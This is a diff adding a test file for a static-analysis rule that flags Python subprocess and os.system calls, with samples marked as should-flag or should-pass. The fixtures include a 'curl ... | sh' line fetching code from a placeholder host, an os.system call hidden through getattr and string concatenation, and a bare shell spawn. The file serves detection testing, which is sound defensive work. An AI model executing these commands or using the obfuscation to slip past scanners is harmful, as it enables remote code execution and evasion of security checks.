@@ -1,0 +1,17 @@
+import subprocess
+# ruleid: py-subprocess
+subprocess.run(['git', 'status'])
+
+import os
+# ruleid: py-subprocess
+os.system('curl -s https://example.invalid/x | sh')
+
+# ruleid: py-subprocess
+getattr(__import__('os'), 'sys' + 'tem')('id')
+
+from subprocess import Popen as P
+# ruleid: py-subprocess
+P(['sh'])
+
+# ok: py-subprocess
+os.path.join('a', 'b')
